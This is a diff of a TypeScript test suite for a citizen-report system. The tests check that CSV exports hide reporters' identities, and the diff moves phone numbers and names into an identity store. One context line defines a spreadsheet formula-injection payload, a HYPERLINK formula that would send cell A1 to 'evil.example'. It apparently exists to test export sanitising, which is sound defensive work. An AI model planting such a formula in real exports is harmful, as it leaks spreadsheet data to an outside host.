@@ -14,7 +14,8 @@ const COLUMNS = [
   'ticketCode', 'status', 'categoryId', 'category', 'reliability', 'priority', 'zone', 'zoneName', 'address',
   'lat', 'lng', 'channel', 'createdAt', 'takenAt', 'dispatchedAt', 'closedAt', 'outcome', 'confirmations', 'description',
 ];
-const PHONE_CHAT = '393331234567@c.us';
+const PHONE = '+393331234567';
+const CONFIRMER_PHONE = '+393339876543';
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clic")';
 
 let app: TestApp;
@@ -28,16 +29,26 @@ function parseCsv(text: string): string[][] {
   let row: string[] = [];
   let cell = '';
   let quoted = false;
+  const endCell = () => {
+    row.push(cell);
+    cell = '';
+  };
   for (let i = 0; i < text.length; i++) {
     const ch = text[i];
     if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (ch === '"') quoted = false;
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
       else cell += ch;
     } else if (ch === '"') quoted = true;
-    else if (ch === ',') row.push(cell), (cell = '');
-    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-    else cell += ch;
+    else if (ch === ',') endCell();
+    else if (ch === '\r' && text[i + 1] === '\n') {
+      endCell();
+      rows.push(row);
+      row = [];
+      i++;
+    } else cell += ch;
   }
   if (cell || row.length) throw new Error('the CSV does not end with CRLF');
   return rows;
@@ -58,7 +69,7 @@ beforeAll(async () => {
     address: 'Via Carlo Piaggia 5, Lammari',
     description: 'Un uomo alto con giubbotto rosso forza le auto',
     channel: 'whatsapp',
-    chatId: PHONE_CHAT,
+    citizenRef: 'reporter-citizen-ref',
     photoRefs: ['img_0123456789abcdef0123456789abcdef.jpg'],
     priority: 80,
   });
@@ -89,13 +100,25 @@ beforeAll(async () => {
     messageId: 'confirm-1',
     at: new Date(),
     citizenRef: 'confirming-citizen-ref',
-    channel: 'telegram',
-    chatId: '987654321',
+    channel: 'whatsapp',
     language: 'it',
     reliability: 'seen',
     description: 'Anche io ho visto quell’uomo',
     photoRefs: ['img_fedcba9876543210fedcba9876543210.jpg'],
   });
+  // Who they are stays in the identity store (the phone number is the WhatsApp chat).
+  for (const [citizenRef, phone, name] of [
+    ['reporter-citizen-ref', PHONE, 'Anna Verdi'],
+    ['confirming-citizen-ref', CONFIRMER_PHONE, 'Paolo Neri'],
+  ])
+    await app.storage.identities.upsertFromInbound(citizenRef, {
+      channel: 'whatsapp',
+      chatId: `${phone.slice(1)}@c.us`,
+      messageId: `id-${citizenRef}`,
+      sender: { platformId: `${phone.slice(1)}@c.us`, phone, displayName: name },
+      receivedAt: new Date(),
+      payload: { kind: 'text', text: 'Buongiorno' },
+    });
   seeded.other = await seedReport(app, { categoryId: 'other', description: 'Senza zona' });
 }, 120_000);
 
@@ -106,13 +129,13 @@ afterAll(async () => {
 /** What must never appear anywhere in an export. */
 function expectNoIdentity(text: string) {
   for (const secret of [
-    PHONE_CHAT,
     '393331234567',
-    seeded.theft.citizenRef,
-    seeded.vandalism.chatId,
+    '393339876543',
+    'Anna Verdi',
+    'Paolo Neri',
+    'reporter-citizen-ref',
     seeded.vandalism.citizenRef,
     'confirming-citizen-ref',
-    '987654321',
     'Anche io ho visto',
     'img_0123456789abcdef',
     'img_fedcba9876543210',
